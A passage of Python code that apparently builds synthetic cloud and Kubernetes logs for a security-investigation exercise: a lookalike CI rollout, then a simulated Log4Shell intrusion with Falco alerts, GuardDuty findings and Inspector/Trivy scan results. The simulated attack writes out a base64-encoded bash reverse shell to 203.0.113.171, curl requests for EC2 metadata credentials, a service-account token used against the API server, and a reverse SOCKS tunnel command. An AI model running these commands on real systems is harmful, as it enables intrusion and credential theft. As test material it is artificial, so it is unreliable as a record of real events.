    C["repo"] = "portal/customer-portal"
    C["image"] = f"{ecr}/{C['repo']}:4.12"   # a mutable release tag: CI pushes every build of the 4.12 line under it
    C["digest"] = image_digest("customer-portal:4.12@2026-05-19")
    C["digest_old"] = image_digest("customer-portal:4.12@2026-05-12")
    C["rw"], C["rw_repo"] = "report-worker", "portal/report-worker"
    C["rw_image"] = f"{ecr}/{C['rw_repo']}:1.8.2"
    C["rw_digest"] = image_digest("report-worker:1.8.2")
    C["rs_old"], C["rs_new"], C["rw_rs"] = "6b8c9d7f54", "7f9c6d8b45", "5d7f8c9b64"
    C["web_pods"] = [(f"customer-portal-{C['rs_new']}-{M.suffix('cp' + str(i))}", n, n.prefix + str(60 + 37 * i))
                     for i, n in enumerate((A, B_, Cn))]
    C["old_pods"] = [(f"customer-portal-{C['rs_old']}-{M.suffix('cpo' + str(i))}", n) for i, n in enumerate((A, B_, Cn))]
    C["pod"], _, C["pod_ip"] = C["web_pods"][0]
    C["rw_pod"] = (f"report-worker-{C['rw_rs']}-{M.suffix('rw')}", B_, B_.prefix + "143")
    C["attacker_ip"], C["tunnel_ip"] = "203.0.113.171", "203.0.113.172"
    C["gha_role"], C["gha_role_id"] = "github-actions-deploy", "AROA2VKPRTLGHADEPL0Y"
    C["runner_ip"], C["office_ip"] = "198.51.100.221", "192.0.2.90"
    C["tool"] = "/tmp/.ICE-unix/dbus-daemon-helper"
    C["tool_sha"] = sha("tunnel-tool")
    C["java_pid"] = 7
    C["snap"] = T("15:05:00")


def vw_containers(image):
    return [{"name": "portal", "image": image, "imagePullPolicy": "Always",
             "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
             "env": [{"name": "SPRING_PROFILES_ACTIVE", "value": "prod"}, {"name": "JAVA_TOOL_OPTIONS", "value": "-XX:MaxRAMPercentage=75"}],
             "resources": {"limits": {"memory": "1536Mi"}, "requests": {"cpu": "500m", "memory": "1Gi"}},
             "securityContext": {"runAsUser": 10001, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]


def vw_rw_containers():
    return [{"name": "report-worker", "image": V["rw_image"], "resources": {"requests": {"cpu": "250m", "memory": "768Mi"}},
             "securityContext": {"runAsUser": 10001, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]


def vw_image_id(image, digest):
    return image.rsplit(":", 1)[0] + "@" + digest


def vw_ci_ident(key, created):
    C = V
    return M.id_role(C["gha_role"], C["gha_role_id"], "GitHubActions", key, created,
                     extra_ctx={"webIdFederationData": {"federatedProvider": f"arn:aws:iam::{S().account}:oidc-provider/{GHA_OIDC}",
                                                        "attributes": {}}})


def vw_app_user(pod, node):
    return u_sa(V["ns"], V["sa"], pod, stable_uuid(f"pod/{V['ns']}/{pod}"), node, jti=stable_uuid("jti/" + pod))


def vw_app_reason():
    return rb_reason("customer-portal-config-reader", V["ns"], "Role", "customer-portal-config-reader", "ServiceAccount", V["sa"])


def vw_benign():
    C = V
    ns, dep = C["ns"], C["deploy"]
    # 09:10 the release pipeline rebuilds 4.12 (a patch of the same line) and pushes it under the same tag
    t = T("09:10:41")
    gha_ua = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-azure lang/js md/nodejs#20.18.1 api/{}#3.726.1 m/E,e"
    key = M.web_identity_assume(t, C["gha_role"], C["gha_role_id"], "GitHubActions", GHA_OIDC,
                                "repo:example-corp/customer-portal:ref:refs/heads/release/4.12", "sts.amazonaws.com", C["runner_ip"],
                                gha_ua.format("sts"), "lookalike-ci-rollout")
    ident = vw_ci_ident(key, t)
    ct(T("09:11:05"), ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={}, ip=C["runner_ip"], ua=gha_ua.format("ecr"),
       step="lookalike-ci-rollout")
    mt = "application/vnd.docker.distribution.manifest.v2+json"
    ct(T("09:11:48"), ident, "ecr.amazonaws.com", "PutImage",
       params={"repositoryName": C["repo"], "imageTag": "4.12", "imageManifestMediaType": mt, "registryId": S().account},
       resp={"image": {"registryId": S().account, "repositoryName": C["repo"],
                       "imageId": {"imageDigest": C["digest"], "imageTag": "4.12"}, "imageManifestMediaType": mt}},
       ip=C["runner_ip"], ua=gha_ua.format("ecr"), read_only=False, step="lookalike-ci-rollout")
    ct(T("09:12:09"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["runner_ip"],
       ua=gha_ua.format("eks"), step="lookalike-ci-rollout")
    K = dict(user=u_role("github-actions-deploy", [], S().account, C["gha_role"], C["gha_role_id"], "GitHubActions", key),
             src=[C["runner_ip"]], ua=VW_CI_KUBECTL,
             reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['gha_role']}", "github-actions-deploy", "AmazonEKSEditPolicy"),
             step="lookalike-ci-rollout")
    audit(T("09:12:30.118204"), verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}",
          objref=oref("deployments", ns, dep, "apps"), level="Request", **K)
    t = T("09:12:31.402917")
    restarted = "2026-05-19T09:12:31Z"
    tl = {"app.kubernetes.io/name": dep, "app.kubernetes.io/part-of": "portal"}
    dep_uid = stable_uuid(f"Deployment/{ns}/{dep}")
    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}?fieldManager=kubectl-rollout",
          objref=oref("deployments", ns, dep, "apps", uid_=dep_uid), level="RequestResponse",
          req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": restarted}}}}},
          resp={"kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": dep, "namespace": ns, "uid": dep_uid, "generation": 31},
                "spec": {"replicas": 3, "selector": {"matchLabels": {"app.kubernetes.io/name": dep}},
                         "template": {"metadata": {"labels": tl, "annotations": {"kubectl.kubernetes.io/restartedAt": restarted}},
                                      "spec": {"containers": vw_containers(C["image"]), "serviceAccountName": C["sa"]}}}},
          **K)
    rs = f"{dep}-{C['rs_new']}"
    t = later(t, 0, 40, 90)
    audit(t, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
          req={"kind": "ReplicaSet", "apiVersion": "apps/v1",
               "metadata": {"name": rs, "namespace": ns, "labels": dict(tl, **{"pod-template-hash": C["rs_new"]}),
                            "ownerReferences": [owner_ref("Deployment", dep, ns)]},
               "spec": {"replicas": 1, "template": {"spec": {"containers": vw_containers(C["image"]), "serviceAccountName": C["sa"]}}}},
          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}")}},
          reason=controller_reason("deployment-controller"), step="rollout-controllers")
    # a rolling update: one new replica at a time; when it is ready, an old one goes
    C["started"] = {}
    for (name, n, ip), (old, _) in zip(C["web_pods"], C["old_pods"]):
        t = later(t, S().rng.randint(2, 4))
        ts = controller_pod(C, t, ns, name, owner_ref("ReplicaSet", rs, ns), n, vw_containers(C["image"]), C["sa"],
                            "replicaset-controller", "benign", "rollout-controllers", labels=dict(tl, **{"pod-template-hash": C["rs_new"]}),
                            image_ids={"portal": vw_image_id(C["image"], C["digest"])}, pod_ip=ip)
        C["started"][name] = ts
        # Spring Cloud Kubernetes reads the app's ConfigMap as the app starts
        tr = later(ts, 21)
        audit(tr, vw_app_user(name, n), "get", f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
              oref("configmaps", ns, "customer-portal-config"), ua=VW_APP_UA, src=[ip], reason=vw_app_reason(),
              step="lookalike-app-config-reads")
        t = later(tr, 9)
        audit(t, u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{old}",
              oref("pods", ns, old), ua=kcm_ua(C["server"], "replicaset-controller"),
              reason=controller_reason("replicaset-controller"), step="rollout-controllers")
    # and every 30 minutes each replica reloads it (the same account, the same pod addresses as the attacker's requests)
    for h in range(10, 15):
        for mnt in (0, 30):
            for i, (name, n, ip) in enumerate(C["web_pods"]):
                tt = T(f"{h:02d}:{mnt + 2 * i:02d}:{(13 * i + 7) % 60:02d}.{S().rng.randint(100000, 999999)}")
                audit(tt, vw_app_user(name, n), "get", f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
                      oref("configmaps", ns, "customer-portal-config"), ua=VW_APP_UA, src=[ip], reason=vw_app_reason(),
                      step="lookalike-app-config-reads")
    # report-worker, the other Java workload (HIGH findings, no exploit known), does its hourly job as every day
    name, n, ip = C["rw_pod"]
    for h in range(10, 15):
        audit(T(f"{h:02d}:05:{(7 * h) % 60:02d}.{S().rng.randint(100000, 999999)}"),
              u_sa(ns, C["rw"], name, stable_uuid(f"pod/{ns}/{name}"), n, jti=stable_uuid("jti/" + name)), "get",
              f"/api/v1/namespaces/{ns}/configmaps/report-worker-config", oref("configmaps", ns, "report-worker-config"),
              ua=VW_APP_UA, src=[ip], reason=rb_reason("report-worker-config-reader", ns, "Role", "report-worker-config-reader",
                                                      "ServiceAccount", C["rw"]), step="lookalike-report-worker")


def vw_fields(pod, name="portal"):
    C = V
    cid = M.container_id(C["ns"], pod, name)[:12]
    repo, tag = C["image"].rsplit(":", 1)
    return M.container_fields(pod, C["ns"], cid, repo, tag, name), M.container_text(pod, C["ns"], cid, repo, tag, name)


def vw_attack():
    C = V
    A = C["nodes"][0]
    pod, ns, pip, atk = C["pod"], C["ns"], C["pod_ip"], C["attacker_ip"]
    cf, ctext = vw_fields(pod)
    X = dict(hostname=A.name)
    java = "/opt/java/openjdk/bin/java"
    jcmd = "java -XX:MaxRAMPercentage=75 -jar /app/customer-portal.jar"
    # 1. Log4Shell: a ${jndi:ldap://203.0.113.171:1389/...} lookup in a logged header loads a class from the attacker's
    #    server; the class runs bash from the JVM, a reverse shell to 203.0.113.171:4444
    rev = f"bash -i >& /dev/tcp/{atk}/4444 0>&1"
    b64 = base64.b64encode(rev.encode()).decode()
    shcmd = f"bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}"
    t = T("13:47:22.418305")
    falco(t, 281, "Run shell untrusted", "Notice",
          tags=["T1059.004", "host", "container", "maturity_stable", "mitre_execution", "process", "shell"],
          message="Shell spawned by untrusted binary",
          text_fields=[("parent_exe", java), ("parent_exepath", java), ("pcmdline", jcmd), ("gparent", "containerd-shim"),
                       ("ggparent", "systemd"), ("aname[4]", "<NA>")]
                      + M.proc_text("execve", "app", 10001, "bash", "/usr/bin/bash", "java", shcmd, 0) + ctext,
          fields=dict(cf, **M.proc_fields("execve", "app", 10001, "bash", "/usr/bin/bash", "java", shcmd, 0, 9214),
                      **{"proc.pexe": java, "proc.pexepath": java, "proc.pcmdline": jcmd, "proc.aname[2]": "containerd-shim",
                         "proc.aname[3]": "systemd", "proc.aname[4]": None}),
          step="runtime-log4shell-rce", **X)
    t2 = T("13:47:22.693117")
    conn = f"{pip}:38122->{atk}:4444"
    falco(t2, 904, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
          tags=["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
          message="Redirect stdout/stdin to network connection",
          text_fields=[("gparent", "java"), ("ggparent", "containerd-shim"), ("gggparent", "systemd"), ("fd.sip", atk),
                       ("connection", conn), ("lport", "38122"), ("rport", "4444"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
                      + M.proc_text("dup2", "app", 10001, "bash", "/usr/bin/bash", "bash", "bash -i", 0) + ctext,
          fields=dict(cf, **M.proc_fields("dup2", "app", 10001, "bash", "/usr/bin/bash", "bash", "bash -i", 0, 9218),
                      **{"fd.l4proto": "tcp", "fd.lport": 38122, "fd.name": conn, "fd.rport": 4444, "fd.sip": atk, "fd.type": "ipv4",
                         "proc.aname[2]": "java", "proc.aname[3]": "containerd-shim", "proc.aname[4]": "systemd"}),
          step="runtime-reverse-shell", **X)
    # 2. the instance metadata service: IMDSv2 with a hop limit of 1, so the token request from the pod gets no answer
    for i, (tt, cmd) in enumerate(((T("13:49:05.220914"), "curl -s -m 3 -X PUT -H X-aws-ec2-metadata-token-ttl-seconds: 21600 "
                                                           "http://169.254.169.254/latest/api/token"),
                                   (T("13:49:11.907352"), "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/"))):
        c2 = f"{pip}:{44610 + 17 * i}->169.254.169.254:80"
        falco(tt, 117 + i, "Contact EC2 Instance Metadata Service From Container", "Notice",
              tags=["T1552.005", "aws", "container", "maturity_sandbox", "mitre_credential_access", "network"],
              message="Outbound connection to EC2 instance metadata service",
              fields=dict(cf, **M.proc_fields("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", cmd, 0, 9301 + 6 * i),
                          **{"fd.name": c2, "fd.l4proto": "tcp", "fd.type": "ipv4", "fd.rip": "169.254.169.254", "fd.rport": 80}),
              text_fields=[("connection", c2), ("lport", str(44610 + 17 * i)), ("rport", "80"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
                          + M.proc_text("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", cmd, 0) + ctext,
              step="runtime-imds-probe", **X)
    # 3. the pod's service-account token, read from its mount and used with curl against the API server
    t3 = T("13:50:31.204417")
    tok = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    kcmd = (f"curl -sk -H Authorization: Bearer $(cat {tok}) -X POST -d @- "
            "https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews")
    c3 = f"{pip}:51844->172.20.0.1:443"
    falco(t3, 662, "Contact K8S API Server From Container", "Notice",
          tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
          message="Unexpected connection to K8s API Server from container",
          text_fields=[("connection", c3), ("lport", "51844"), ("rport", "443"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
                      + M.proc_text("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", kcmd, 0) + ctext,
          fields=dict(cf, **M.proc_fields("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", kcmd, 0, 9388),
                      **{"fd.l4proto": "tcp", "fd.lport": 51844, "fd.name": c3, "fd.rport": 443, "fd.type": "ipv4"}),
          step="k8s-sa-token-abuse", **X)
    user = vw_app_user(pod, A)
    uname = user["username"]
    K = dict(user=user, src=[pip], ua=VW_CURL, label="attack", step="k8s-sa-token-abuse")
    rr = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
          "spec": {"namespace": ns}, "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
    audit(M.ms(t3, 180, 260), verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
          objref=oref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201, level="RequestResponse", req=rr,
          resp=dict(rr, status={"resourceRules": [{"verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["configmaps"]},
                                                  {"verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
                                                   "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"]}],
                                "nonResourceRules": [{"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis", "/apis/*", "/healthz",
                                                                                            "/livez", "/readyz", "/version", "/version/"]}],
                                "incomplete": False}),
          reason=crb_reason("system:basic-user", "system:basic-user", "Group", "system:authenticated"), **K)
    audit(T("13:50:48.660172"), verb="list", uri=f"/api/v1/namespaces/{ns}/secrets", objref=oref("secrets", ns),
          decision="forbid", rstatus=M.forbidden(uname, "list", "secrets", ns), **K)
    audit(T("13:51:03.118940"), verb="list", uri=f"/api/v1/namespaces/{ns}/configmaps", objref=oref("configmaps", ns), level="Request",
          reason=vw_app_reason(), **K)
    audit(T("13:51:20.447305"), verb="get", uri=f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
          objref=oref("configmaps", ns, "customer-portal-config"), reason=vw_app_reason(), **K)
    audit(T("13:51:41.902116"), verb="list", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns), level="Request",
          decision="forbid", rstatus=M.forbidden(uname, "list", "pods", ns), **K)
    audit(T("13:51:58.335021"), verb="create", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns), level="Request",
          decision="forbid", rstatus=M.forbidden(uname, "create", "pods", ns), **K)
    audit(T("13:52:20.071894"), verb="list", uri="/api/v1/secrets", objref=oref("secrets"), decision="forbid",
          rstatus=M.forbidden(uname, "list", "secrets"), **K)
    # 4. a tunnelling tool, downloaded into /tmp and run: a reverse SOCKS tunnel out to 203.0.113.172:443
    drop, run = T("13:53:40.551208"), T("13:53:47.129664")
    tool = C["tool"]
    tcmd = f"dbus-daemon-helper client {C['tunnel_ip']}:443 R:socks"
    drop_ns, run_ns = epoch_ns(drop, 402), epoch_ns(run, 77)
    start_ns = epoch_ns(C["started"][pod])
    falco(run, 77, "Drop and execute new binary in container", "Critical",
          tags=["T1036", "container", "maturity_stable", "mitre_defense_evasion", "mitre_persistence", "process"],
          message="Executing binary not part of base image",
          text_fields=[("proc_exe", tool), ("proc_sname", "bash"), ("gparent", "bash"), ("proc_exe_ino_ctime", str(drop_ns)),
                       ("proc_exe_ino_mtime", str(drop_ns)), ("proc_exe_ino_ctime_duration_proc_start", str(run_ns - drop_ns)),
                       ("proc_cwd", "/tmp/.ICE-unix/"), ("container_start_ts", str(start_ns))]
                      + M.proc_text("execve", "app", 10001, "dbus-daemon-hel", tool, "bash", tcmd, 0)
                      + [("exe_flags", "EXE_WRITABLE|EXE_UPPER_LAYER")] + ctext,
          fields=dict(cf, **M.proc_fields("execve", "app", 10001, "dbus-daemon-hel", tool, "bash", tcmd, 0, 9477),
                      **{"container.start_ts": start_ns, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "proc.aname[2]": "bash",
                         "proc.cwd": "/tmp/.ICE-unix/", "proc.exe": tool, "proc.exe_ino.ctime": drop_ns, "proc.exe_ino.mtime": drop_ns,
                         "proc.exe_ino.ctime_duration_proc_start": run_ns - drop_ns, "proc.sname": "bash"}),
          step="runtime-tunnel-tool", **X)
    C["t"] = {"rce": t, "shell": t2, "drop": drop, "run": run}


def vw_instance_details(n):
    C = V
    return {"instanceId": n.instance, "instanceType": n.itype, "launchTime": n.launched.replace("Z", ".000Z"),
            "platform": None, "productCodes": [],
            "iamInstanceProfile": {"arn": f"arn:aws:iam::{S().account}:instance-profile/eks-{C['ng']}-7a9c1e3b-5d7f-4b9a-8c1e-3a5b7c9d1e3f",
                                   "id": "AIPA2VKPRTLPORTALPF5"},
            "networkInterfaces": [{"ipv6Addresses": [], "networkInterfaceId": "eni-0" + hashlib.md5(n.instance.encode()).hexdigest()[:16],
                                   "privateDnsName": n.name, "privateIpAddress": n.ip,
                                   "privateIpAddresses": [{"privateDnsName": n.name, "privateIpAddress": n.ip}],
                                   "subnetId": C["subnets"][n.zone], "vpcId": C["vpc"],
                                   "securityGroups": [{"groupName": "eks-cluster-sg-prod-portal-1759716891", "groupId": C["cluster_sg"]}]}],
            "outpostArn": None,
            "tags": [{"key": "eks:cluster-name", "value": S().cluster}, {"key": "eks:nodegroup-name", "value": C["ng"]},
                     {"key": f"kubernetes.io/cluster/{S().cluster}", "value": "owned"}, {"key": "aws:eks:cluster-name", "value": S().cluster}],
            "instanceState": "running", "availabilityZone": n.zone, "imageId": C["ami"],
            "imageDescription": "EKS-optimized Kubernetes node based on Amazon Linux 2023, (k8s: 1.32.1, containerd: 1.7.*)"}


def vw_guardduty():
    C = V
    A = C["nodes"][0]
    pod = C["pod"]
    pod_uid = stable_uuid(f"pod/{C['ns']}/{pod}")
    cid = M.container_id(C["ns"], pod, "portal")
    cluster = {"name": S().cluster, "arn": S().cluster_arn, "vpcId": C["vpc"], "status": "ACTIVE",
               "tags": [{"key": "env", "value": "production"}, {"key": "team", "value": "portal"}],
               "createdAt": epoch(T("02:14:51.204", "2025-10-06"))}
    workload = {"name": pod, "type": "pods", "uid": pod_uid, "namespace": C["ns"], "hostNetwork": False,
                "containers": [{"name": "portal", "image": C["image"], "imagePrefix": C["ecr"],
                                "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}]}
    container = {"containerRuntime": "containerd", "id": cid, "name": "portal", "image": C["image"], "imagePrefix": C["ecr"],
                 "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}
    res = {"resourceType": "EKSCluster", "eksClusterDetails": cluster, "kubernetesDetails": {"kubernetesWorkloadDetails": workload},
           "instanceDetails": vw_instance_details(A), "containerDetails": container}
    tt = C["t"]
    java_uuid, bash_uuid, shell_uuid, tool_uuid = (stable_uuid("proc/java"), stable_uuid("proc/bash-c"), stable_uuid("proc/bash-i"),
                                                   stable_uuid("proc/tool"))
    java = {"startTime": epoch(C["started"][pod]), "namespacePid": 1, "userId": 10001, "name": "java", "pid": 4211, "uuid": java_uuid,
            "executablePath": "/opt/java/openjdk/bin/java", "euid": 10001, "parentUuid": stable_uuid("proc/containerd-shim")}
    bash_c = {"startTime": epoch(tt["rce"]), "namespacePid": 203, "userId": 10001, "name": "bash", "pid": 9214, "uuid": bash_uuid,
              "executablePath": "/usr/bin/bash", "euid": 10001, "parentUuid": java_uuid}
    shell = {"name": "bash", "executablePath": "/usr/bin/bash", "executableSha256": sha("bash"), "namespacePid": 207, "pwd": "/app",
             "pid": 9218, "startTime": epoch(tt["shell"] - timedelta(milliseconds=30)), "uuid": shell_uuid, "parentUuid": bash_uuid,
             "user": "app", "userId": 10001, "euid": 10001, "lineage": [bash_c, java]}
    copy_ = lambda o: json.loads(json.dumps(o))
    finding("a3c5e7f9b1d3f5a7c9e1b3d5f7a9c1e3", "Execution:Runtime/ReverseShell", 8,
            "A process in a container has created a reverse shell.",
            f"A process bash in container portal of pod {pod} on EKS Cluster {S().cluster} has created a reverse shell "
            f"to remote host {C['attacker_ip']}.",
            copy_(res), M.service_block(tt["shell"], tt["shell"], 1, {}, feature="RuntimeMonitoring",
                                        extra={"runtimeDetails": {"process": shell}}),
            T("13:48:36.204"), T("13:48:36.204"), step="detect-reverse-shell")
    tool = {"name": "dbus-daemon-hel", "executablePath": C["tool"], "executableSha256": C["tool_sha"], "namespacePid": 291,
            "pwd": "/tmp/.ICE-unix", "pid": 9477, "startTime": epoch(tt["run"]), "uuid": tool_uuid, "parentUuid": shell_uuid,
            "user": "app", "userId": 10001, "euid": 10001,
            "lineage": [{k: v for k, v in shell.items() if k not in ("lineage", "executableSha256", "pwd", "user")}, bash_c, java]}
    finding("b5e7a9c1d3f5b7d9e1a3c5e7b9d1f3a5", "Execution:Runtime/NewBinaryExecuted", 5,
            "A newly created or recently modified binary file has been executed in a container.",
            f"A newly created or recently modified binary file {C['tool']} has been executed in container portal "
            f"of pod {pod} on EKS Cluster {S().cluster}.",
            copy_(res), M.service_block(tt["run"], tt["run"], 1, {}, feature="RuntimeMonitoring",
                                        extra={"runtimeDetails": {"process": tool, "context": {"modifyingProcess": {
                                            "name": "curl", "executablePath": "/usr/bin/curl", "pid": 9431, "namespacePid": 262,
                                            "uuid": stable_uuid("proc/curl"), "userId": 10001, "euid": 10001,
                                            "startTime": epoch(tt["drop"] - timedelta(milliseconds=700))},
                                            "modifiedAt": epoch(tt["drop"])}}}),
            T("13:58:12.771"), T("13:58:12.771"), step="detect-new-binary")


LOG4J_DESC = ("Apache Log4j2 2.0-beta9 through 2.15.0 (excluding security releases 2.12.2, 2.12.3, and 2.3.1) JNDI features used in "
              "configuration, log messages, and parameters do not protect against attacker controlled LDAP and other JNDI related "
              "endpoints. An attacker who can control log messages or log message parameters can execute arbitrary code loaded from "
              "LDAP servers when message lookup substitution is enabled.")
LOG4J_45046_DESC = ("The fix to address CVE-2021-44228 in Apache Log4j 2.15.0 was incomplete in certain non-default configurations. "
                    "Attackers with control over Thread Context Map (MDC) input data can craft malicious input data using a JNDI Lookup "
                    "pattern, resulting in an information leak and remote code execution in some environments.")
LOG4J_44832_DESC = ("Apache Log4j2 versions 2.0-beta7 through 2.17.0 are vulnerable to a remote code execution attack when a "
                    "configuration uses a JDBC Appender with a JNDI LDAP data source URI when an attacker has control of the target "
                    "LDAP server.")


def vw_scans(base, files):
    """Inspector's findings for the account's images; the CI's Trivy reports (report-worker; and customer-portal:4.12 as
    it was pushed a week earlier, under the same tag, before the tag was pushed again)."""
    C = V
    jar = "JAR"
    pushed, first, last = "2026-05-19T09:11:48+00:00", "2026-05-19T09:12:20.418000+00:00", "2026-05-19T14:02:11.906000+00:00"
    lib = "app/BOOT-INF/lib/"
    web = dict(image=C["image"], digest=C["digest"], tags=["4.12"], pushed=pushed, last_in_use="2026-05-19T14:00:00+00:00", in_use=3,
               first=first, last=last)
    ghsa = "https://github.com/advisories/"
    fs = [
        inspector_finding(cve="CVE-2021-44228", severity="CRITICAL", score=10.0, vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
                          exploit=True, pkgs=[("log4j-core", "2.14.1", "2.15.0", jar, lib + "log4j-core-2.14.1.jar", None)],
                          title="CVE-2021-44228 - log4j-core", desc=LOG4J_DESC, source="GITHUB", source_url=ghsa + "GHSA-jfh8-c2jp-5v3q",
                          vendor_severity="CRITICAL", epss=0.9447, last_exploit="2026-05-17T22:41:09+00:00", **web),
        inspector_finding(cve="CVE-2021-45046", severity="CRITICAL", score=9.0, vector="CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H",
                          exploit=False, pkgs=[("log4j-core", "2.14.1", "2.16.0", jar, lib + "log4j-core-2.14.1.jar", None)],
                          title="CVE-2021-45046 - log4j-core", desc=LOG4J_45046_DESC, source="GITHUB",
                          source_url=ghsa + "GHSA-7rjr-3q55-vv33", vendor_severity="CRITICAL", epss=0.9434, **web),
        inspector_finding(cve="CVE-2021-44832", severity="MEDIUM", score=6.6, vector="CVSS:3.1/AV:N/AC:H/PR:H/UI:N/S:U/C:H/I:H/A:H",
                          exploit=False, pkgs=[("log4j-core", "2.14.1", "2.17.1", jar, lib + "log4j-core-2.14.1.jar", None)],
                          title="CVE-2021-44832 - log4j-core", desc=LOG4J_44832_DESC, source="GITHUB",
                          source_url=ghsa + "GHSA-8489-44mv-ggj8", vendor_severity="MODERATE", epss=0.4312, **web),
        inspector_finding(cve="CVE-2023-0286", severity="HIGH", score=7.4, vector="CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:H",
                          exploit=False, pkgs=[("libssl1.1", "1.1.1f", "0:1.1.1f-1ubuntu2.17", "OS", None, "1ubuntu2.16"),
                                               ("openssl", "1.1.1f", "0:1.1.1f-1ubuntu2.17", "OS", None, "1ubuntu2.16")],
                          title="CVE-2023-0286 - libssl1.1, openssl",
                          desc="There is a type confusion vulnerability relating to X.400 address processing inside an X.509 GeneralName.",
                          source="UBUNTU_CVE", source_url="https://ubuntu.com/security/CVE-2023-0286", vendor_severity="high",
                          epss=0.0089, **web),
    ]
    rw = dict(image=C["rw_image"], digest=C["rw_digest"], tags=["1.8.2"], pushed="2026-04-28T11:03:17+00:00",
              last_in_use="2026-05-19T14:00:00+00:00", in_use=1, first="2026-04-28T11:03:49.204000+00:00",
              last="2026-05-19T13:58:40.117000+00:00")
    fs += [
        inspector_finding(cve="CVE-2022-1471", severity="HIGH", score=8.3, vector="CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:L",
                          exploit=False, pkgs=[("snakeyaml", "1.30", "2.0", jar, lib + "snakeyaml-1.30.jar", None)],
                          title="CVE-2022-1471 - snakeyaml",
                          desc="SnakeYaml's Constructor() class does not restrict types which can be instantiated during deserialization.",
                          source="GITHUB", source_url=ghsa + "GHSA-mjmj-j48q-9wg2", vendor_severity="HIGH", epss=0.0421, **rw),
        inspector_finding(cve="CVE-2023-2976", severity="HIGH", score=7.1, vector="CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N",
                          exploit=False, pkgs=[("guava", "31.1-jre", "32.0.0-android", jar, lib + "guava-31.1-jre.jar", None)],
                          title="CVE-2023-2976 - guava",
                          desc="Use of Java's default temporary directory for file creation in FileBackedOutputStream in Google Guava "
                               "allows other users and apps on the machine with access to the default Java temporary directory to be "
                               "able to access the files created by the class.",
                          source="GITHUB", source_url=ghsa + "GHSA-7g45-4rm6-3mm3", vendor_severity="HIGH", epss=0.0006, **rw),
    ]
    write_scan(base, files, "inspector/list-findings.json", {"findings": fs}, len(fs))
    v3 = lambda s, v: (s, v)
    jar_purl = lambda g, a, v: f"pkg:maven/{g}/{a}@{v}"
    rw_report = trivy_report("2026-04-28T11:02:55.418207331Z", C["rw_image"], C["rw_digest"], "ubuntu", "22.04", [
        (f"{C['rw_image']} (ubuntu 22.04)", "os-pkgs", "ubuntu", [
            trivy_vuln("CVE-2022-3219", "gpgv", "2.2.27-3ubuntu2.1", None, "LOW",
                       "gnupg: denial of service issue (resource consumption) using compressed packets", source="ubuntu",
                       purl="pkg:deb/ubuntu/gpgv@2.2.27-3ubuntu2.1?arch=amd64&distro=ubuntu-22.04")]),
        ("Java", "lang-pkgs", "jar", [
            trivy_vuln("CVE-2022-1471", "org.yaml:snakeyaml", "1.30", "2.0", "HIGH", "SnakeYaml: Constructor Deserialization Remote Code Execution",
                       v3=v3(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"), path="app/BOOT-INF/lib/snakeyaml-1.30.jar",
                       purl=jar_purl("org.yaml", "snakeyaml", "1.30")),
            trivy_vuln("CVE-2023-2976", "com.google.guava:guava", "31.1-jre", "32.0.0-android", "HIGH",
                       "guava: insecure temporary directory creation", v3=v3(7.1, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N"),
